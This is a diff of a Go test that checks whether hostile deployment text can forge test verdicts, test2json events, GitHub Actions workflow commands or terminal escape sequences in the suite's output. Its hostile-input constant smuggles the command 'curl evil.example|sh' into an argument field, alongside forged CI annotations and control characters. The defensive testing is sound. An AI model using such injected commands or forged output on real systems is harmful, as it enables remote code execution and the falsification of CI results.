@@ -8,14 +8,16 @@ import (
 	"unicode"
 
 	"github.com/stretchr/testify/assert"
+
+	"github.com/lsst-sqre/muster/validation/verdict"
 )
 
 // hostileTexts speak the languages of all who read the output: the suite's own,
 // test2json's, a terminal's, the one of GitHub's runner.
-const hostileTexts = `no\nmuster: verdict=bogus\nmuster: arguments=-env=x; curl evil.example|sh #` +
-	`\rmuster: environment=forged\r\n::error::x\n    ::add-mask::y\n ##[error]z\n` +
+const hostileTexts = `no\nmuster.run={\"verdict\":\"bogus\",\"arguments\":\"-env=x; curl evil.example|sh #\"}` +
+	`\n=== ATTR  TestBogus muster.check {\"outcome\":\"pass\"}\rmuster.run={\"verdict\":\"bogus\"}\r\n::error::x\n    ::add-mask::y\n ##[error]z\n` +
 	`\u0016=== RUN   TestBogus\n\u0016--- PASS: TestBogus (0.00s)\n--- FAIL: TestBogus\n` +
-	`\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnol\u0000\u007f\u0085\u2028muster: diagnosis=forged`
+	`\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnol\u0000\u007f\u0085\u2028muster.run={\"verdict\":\"bogus\"}`
 
 // What a deployment says is only ever read: it ends no line, begins none, moves
 // no cursor, and is no command to whoever runs the suite.
@@ -38,7 +40,7 @@ func TestHostileTexts(t *testing.T) {
 		}
 		return true
 	}, nil)
-	for _, verbose := range []string{"-test.v=false", "-test.v"} {
+	for _, verbose := range []string{"-test.v=false", "-test.v", asEvents} {
 		o := runs(t, theSuite(t), "-env="+env, verbose)
 		assert.NotZero(t, o.code)
 		text := o.stdout + o.stderr
@@ -48,8 +50,12 @@ func TestHostileTexts(t *testing.T) {
 				t.Fatalf("%q is in the output", r)
 			}
 		}
-		for _, forged := range []string{`(?m)^muster: (verdict|arguments|environment)=(bogus|forged|.*evil)`, `(?m)^[ \t]*(=== |--- ).*TestBogus.*`, `(?m)^[ \t]*::.*::`, `##\[`} {
+		for _, forged := range []string{`(?m)^[ \t]*muster\.run=\{"(verdict|arguments":"-env=x).*`, `(?m)^[ \t]*(=== |--- ).*TestBogus.*`, `(?m)^[ \t]*::.*::`, `##\[`} {
 			assert.Empty(t, regexp.MustCompile(forged).FindAllString(text, -1))
+		}
+		if verbose == asEvents {
+			assert.Equal(t, verdict.ExitCode(o.run.Verdict), o.code)
+			assert.NotContains(t, o.failed(), "TestBogus")
 		}
 	}
 }
